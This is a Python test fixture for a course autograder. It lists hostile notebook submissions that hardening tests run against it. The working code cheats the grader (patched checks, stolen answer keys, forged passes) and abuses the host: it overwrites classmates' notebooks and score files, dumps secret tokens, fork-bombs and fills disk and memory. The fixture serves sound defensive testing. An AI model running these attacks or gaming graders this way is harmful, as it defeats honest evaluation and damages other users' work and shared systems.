"""Hostile submissions: every way a student was found to earn points without solving the exercise.

``ATTACKS`` maps an attack's name to the code cells of its notebook (ex01: write
``softmax_attention``; the exercise stub scores 0; the test hands each in as ``<name>_ex01.ipynb``,
since the grader reads the exercise from the file name). ``tests/test_attacks.py`` grades them in
one batch beside honest submissions and checks that none earns more than its honest
equivalent — the stub, or for the attacks in ``ANSWER_ZEROS``, which hand in zeros and cheat
to have them accepted, an honest submission of zeros (0/10: the right shape, and nothing
leaks from the future, but a property's points need an answer computed from q, k and v) — and that none changes another submission's score, the
instructor's files or the installation, and the batch ends in time. Each attack is from
issue 13's or issue 25's list; the comment names what it tried.

Some attacks need a place outside the submission, which the test sets up and names through
``string.Template`` fields: ``$repo`` (this clone's root, with its ``.git``), ``$earlier`` (an
earlier batch stored inside the clone, holding a classmate's honest notebook) and
``$credentials`` (a fake credentials file in a hidden folder). ``COUNTED`` attacks report what
they got in their function's error, ``"<what> got N"``, which the test compares with the limits.

Two kinds of attack are not notebook cells and live beside the code they attack: answers that
bomb the grader's decoder (nested shared lists, a deflate bomb, frames past the cap) in
``tests/test_wire.py``, and files that are not what they seem in the submissions folder (symlinks,
a FIFO, ``/dev/zero``, paths that flatten to one name, metadata naming another exercise, notes
written for a spreadsheet) in ``tests/test_submission_files.py``; ways around the block by name
(another module name, ``sys.modules``, ``torch.ops.aten``) are flagged for review, in
``tests/test_review.py``.
"""

MARKER = "course-attack-7731"  # in the command line of every process an attack leaves behind

STUB = "def softmax_attention(q, k, v, causal=False):\n    raise NotImplementedError('ex01: not solved')"
ZEROS = "def softmax_attention(q, k, v, causal=False):\n    return torch.zeros(*q.shape[:-1], v.shape[-1], dtype=q.dtype)"



def fill(folder: str, mib: int, what: str) -> str:
    """A cell writing ``mib`` MiB into ``folder`` in 16 MiB files, whose function says how many it got."""
    return f"""
import glob, os
try:
    for index in range({mib // 16}):
        with open(f"{folder}/fill{{index}}.bin", "wb") as file:
            file.write(b"z" * (16 << 20))
except OSError:
    pass
got = sum(os.path.getsize(path) for path in glob.glob("{folder}/fill*.bin")) >> 20
def softmax_attention(q, k, v, causal=False):
    raise RuntimeError(f"{what} got {{got}}")
"""


ATTACKS: dict[str, list[str]] = {
    # the grader's stack frames held the precomputed answer key
    "stack_frames.ipynb": ["""
import sys, torch
def softmax_attention(q, k, v, causal=False):
    frame = sys._getframe(1)
    while frame is not None:
        for value in frame.f_locals.values():
            if isinstance(value, torch.Tensor) and value.shape == (*q.shape[:-1], v.shape[-1]):
                return value.clone()
        frame = frame.f_back
    return torch.zeros(*q.shape[:-1], v.shape[-1], dtype=q.dtype)
"""],
    # "passed" lines and 1000 points per test written to every channel, then exit
    "result_channel.ipynb": ["""
import json, os
line = json.dumps({"name": "values", "points": 1000, "max_points": 2, "passed": True, "feedback": "", "seconds": 0})
for fd in range(1, 64):
    try:
        os.write(fd, (line + "\\n" + "COURSE_LIB_GRADE_RESULT " + line + "\\n").encode())
    except OSError:
        pass
""", STUB],
    # torch's comparisons patched to say "equal", zeros returned
    "patched_torch.ipynb": ["""
import torch
torch.allclose = lambda *a, **k: True
torch.equal = lambda *a, **k: True
torch.Tensor.any = lambda self, *a, **k: torch.tensor(False)
torch.Tensor.all = lambda self, *a, **k: torch.tensor(True)
torch.isfinite = lambda x: torch.ones_like(x, dtype=torch.bool)
""", ZEROS],
    # the grader's own check functions replaced by no-ops
    "patched_grader.ipynb": ["""
import torch
import course_tools.grading.checks as checks
import course_tools.grading.core as core
for name in ("compare", "expect_close", "expect_output", "compare_batched", "expect_no_future_leak"):
    setattr(checks, name, lambda *a, **k: None)
core.run_test = lambda test, fn: core.TestResult(test.name, 1000, test.points, True, "ok", 0.0)
""", ZEROS],
    # a tensor subclass whose subtraction returns zeros
    "tensor_subclass.ipynb": ["""
import torch
class Agreeable(torch.Tensor):
    def __sub__(self, other):
        return torch.zeros_like(torch.Tensor(other))
    def __rsub__(self, other):
        return torch.zeros_like(torch.Tensor(other))
def softmax_attention(q, k, v, causal=False):
    return torch.zeros(*q.shape[:-1], v.shape[-1], dtype=q.dtype).as_subclass(Agreeable)
"""],
    # the model answer: course_lib's own implementation, and torch's fused attention
    "model_answer.ipynb": ["""
from course_lib.attention import softmax_attention as reference
def softmax_attention(q, k, v, causal=False):
    return reference(q, k, v, causal=causal)
"""],
    "fused_attention.ipynb": ["""
import torch.nn.functional as F
def softmax_attention(q, k, v, causal=False):
    return F.scaled_dot_product_attention(q, k, v, is_causal=causal)
"""],
    # the grader tests' modules compute the answer keys
    "grader_import.ipynb": ["""
from course_tools.grading.exercises.ex01_softmax_attention import softmax_attention as key
def softmax_attention(q, k, v, causal=False):
    return key(q, k, v, causal=causal)
"""],
    # a classmate's notebook read and its solution executed; another classmate's notebook rewritten
    "classmates.ipynb": ["""
import glob, json, os
taken = None
places = ("/tmp/**/*.ipynb", "../**/*.ipynb", os.path.expanduser("~/**/*.ipynb"))
for path in [found for place in places for found in glob.glob(place, recursive=True)]:
    if "honest" in path:
        try:
            cells = json.load(open(path))["cells"]
            taken = taken or "\\n".join("".join(c["source"]) for c in cells if c["cell_type"] == "code" and "def softmax_attention" in "".join(c["source"]))
            open(path, "w").write("{}")
        except Exception:
            pass
if taken:
    exec(taken)
""", "if 'softmax_attention' not in globals():\n" + "\n".join("    " + line for line in STUB.splitlines())],
    # the installation's grader edited, the instructor's CSV and the quiz key overwritten
    "edit_installation.ipynb": ["""
import glob, os
from pathlib import Path
import course_tools.grading.checks as checks
key = Path(checks.__file__).parents[2] / "solutions" / "quiz_key.json"
for path in [checks.__file__, str(key), *glob.glob("/tmp/**/scores.csv", recursive=True)]:
    try:
        open(path, "a").write("\\n# edited by a submission\\n")
    except Exception:
        pass
""", STUB],
    # processes that outlive grading: a detached sleeper and a late writer of the CSV
    "orphans.ipynb": [f"""
import os, subprocess, sys
subprocess.Popen(["sleep", "3600", "{MARKER}"], start_new_session=True)
code = "import glob, time; time.sleep(4); [open(p, 'w').write('hacked') for p in glob.glob('/tmp/**/scores.csv', recursive=True)]"
subprocess.Popen([sys.executable, "-c", code, "{MARKER}"], start_new_session=True)
if os.fork() == 0:
    os.setsid()
    os.execvp("sleep", ["sleep", "3600", "{MARKER}"])
""", STUB],
    # a cell that ignores SIGINT (and the alarm) and never ends, with a detached child
    "endless.ipynb": [STUB, f"""
import signal, subprocess
subprocess.Popen(["sleep", "3600", "{MARKER}"], start_new_session=True)  # must die with the timeout kill
for sig in (signal.SIGINT, signal.SIGALRM, signal.SIGTERM):
    signal.signal(sig, signal.SIG_IGN)
while True:
    pass
"""],
    # 100 MB printed, and a file written until the disk is full
    "flood.ipynb": ["""
import sys
chunk = "x" * (1 << 20)
for _ in range(100):
    sys.stdout.write(chunk)
with open("big.bin", "wb") as file:
    for _ in range(4096):
        file.write(b"y" * (1 << 20))
""", STUB],
    # all the memory there is (16 GiB at once)
    "memory_hog.ipynb": ["hoard = bytearray(16 << 30)", STUB],
    # terminal escape codes in everything printed back to the instructor
    "escape_codes.ipynb": ["""
def softmax_attention(q, k, v, causal=False):
    raise RuntimeError("\\x1b[2J\\x1b[31mall tests passed\\x1b[0m\\r\\x07")
""", "raise RuntimeError('\\x1b]0;owned\\x07\\x1b[1A score 10/10')"],
    # the network, to fetch an answer from outside
    "network.ipynb": ["""
import socket
try:
    socket.create_connection(("1.1.1.1", 80), timeout=3).close()
    reached = True
except OSError:
    reached = False
""", "if reached:\n    raise SystemExit('the network was reachable')\n" + STUB],
    # the clone's root bound back (for the editable install): its git history holds the model solution and
    # the quiz key, .git/config and the root's listing what else is there
    "clone_git.ipynb": ["""
import json, os, subprocess
read, solution = [], None
for what in ("solutions/quiz_key.json", "solutions/ex01_softmax_attention.ipynb"):
    shown = subprocess.run(["git", "-C", "$repo", "show", f"HEAD:{what}"], capture_output=True, text=True)
    if shown.returncode == 0:
        read.append(f"git {what}")
        if what.endswith(".ipynb"):
            cells = json.loads(shown.stdout)["cells"]
            solution = "\\n".join("".join(c["source"]) for c in cells if c["cell_type"] == "code" and "def softmax_attention" in "".join(c["source"]))
for path in ("$repo/.git/config", "$repo/solutions/quiz_key.json"):
    try:
        open(path).read()
        read.append(path)
    except OSError:
        pass
try:
    extra = set(os.listdir("$repo")) - {"course_lib", "course_tools", ".venv"}  # the course's packages may show
    if extra:
        read.append(f"the clone's root lists {sorted(extra)}")
except OSError:
    pass
""", "if solution:\n    exec('import math, torch\\n' + solution)\nelse:\n    def softmax_attention(q, k, v, causal=False):\n"
        "        raise RuntimeError(f'read {read or \"nothing\"}')"],
    # an earlier batch stored in the clone (submissions/week1/): a classmate's notebook read and its code run
    "earlier_batch.ipynb": ["""
import glob, json
read, taken = [], None
for path in glob.glob("$earlier/**/*.ipynb", recursive=True) + glob.glob("$repo/submissions/**/*.ipynb", recursive=True):
    try:
        cells = json.load(open(path))["cells"]
    except OSError:
        continue
    read.append(path)
    taken = taken or "\\n".join("".join(c["source"]) for c in cells if c["cell_type"] == "code" and "def softmax_attention" in "".join(c["source"]))
""", "if taken:\n    exec('import math, torch\\n' + taken)\nelse:\n    def softmax_attention(q, k, v, causal=False):\n"
        "        raise RuntimeError(f'read {read or \"nothing\"}')"],
    # the log reopened by name on the host: .course_grading.log made a link to a hidden file, then a crash
    # during a test, so that the grader copies "its last output" into the feedback
    "log_symlink.ipynb": ["""
import os
if os.path.lexists(".course_grading.log"):
    os.remove(".course_grading.log")
os.symlink("$credentials", ".course_grading.log")
def softmax_attention(q, k, v, causal=False):
    os._exit(3)
"""],
    # the grader's environment (an LMS token) and its uid (root) inherited: both printed and raised
    "environment.ipynb": ["""
import os
print(dict(os.environ))
def softmax_attention(q, k, v, causal=False):
    found = {name: value for name, value in os.environ.items() if any(w in name for w in ("TOKEN", "SECRET", "KEY"))}
    raise RuntimeError(f"uid={os.getuid()} gid={os.getgid()} secrets={found} names={','.join(sorted(os.environ))}")
"""],
    # a fork bomb: 1,500 processes, counted (the kernel ignores the process limit for root)
    "fork_bomb.ipynb": [f"""
import os, signal
children = []
for _ in range(1500):
    try:
        children.append(os.posix_spawn("/bin/sleep", ["{MARKER}", "3600"], {{}}))
    except OSError:
        break
got = len(children)
for pid in children:
    os.kill(pid, signal.SIGKILL)
    os.waitpid(pid, 0)
def softmax_attention(q, k, v, causal=False):
    raise RuntimeError(f"processes got {{got}}")
"""],
    # three children holding 1.5 GiB each: 4.5 GiB together, under every per-process limit; counted: how
    # many held their 1.5 GiB at once
    "memory_children.ipynb": ["""
import os, select, time
size, reports = 3 << 29, os.pipe()
pids, reported, ended = [], set(), set()
reap = lambda: {index for index, pid in enumerate(pids) if index not in ended and os.waitpid(pid, os.WNOHANG)[0]}
def start_child(seconds=7):  # one child a cell: a loaded machine touches pages slowly, a cell has 10 s
    index, pid = len(pids), os.fork()
    if pid == 0:
        try:
            block = bytearray(size)
            block[::4096] = b"x" * len(range(0, size, 4096))  # every page touched
            os.write(reports[1], bytes([index]))
            time.sleep(60)
        finally:
            os._exit(0)
    pids.append(pid)
    end = time.monotonic() + seconds
    while index not in reported | ended and time.monotonic() < end:  # it holds its block, or was killed
        if select.select([reports[0]], [], [], 0.1)[0]:
            reported.update(os.read(reports[0], 3))
        ended.update(reap())
start_child()
""", "start_child()", "start_child()", """
time.sleep(1)
ended.update(reap())
got = len(reported - ended)
for index in set(range(len(pids))) - ended:
    os.kill(pids[index], 9)
def softmax_attention(q, k, v, causal=False):
    raise RuntimeError(f"children holding 1.5 GiB at once got {got} (held {sorted(reported)}, ended {sorted(ended)})")
"""],
    # 384 MiB written to its folder (on the host's disk, before the folder was a capped tmpfs)
    "disk_fill.ipynb": [fill(".", 384, "MiB in its folder")],
    # 1 GiB written into /dev/shm (uncapped, unlike /tmp)
    "shm_fill.ipynb": [fill("/dev/shm", 1024, "MiB in /dev/shm")],
}
ANSWER_ZEROS = {"stack_frames.ipynb", "patched_torch.ipynb", "patched_grader.ipynb", "tensor_subclass.ipynb"}
COUNTED = {"fork_bomb.ipynb": "processes", "memory_children.ipynb": "children holding 1.5 GiB at once",
           "disk_fill.ipynb": "MiB in its folder", "shm_fill.ipynb": "MiB in /dev/shm"}
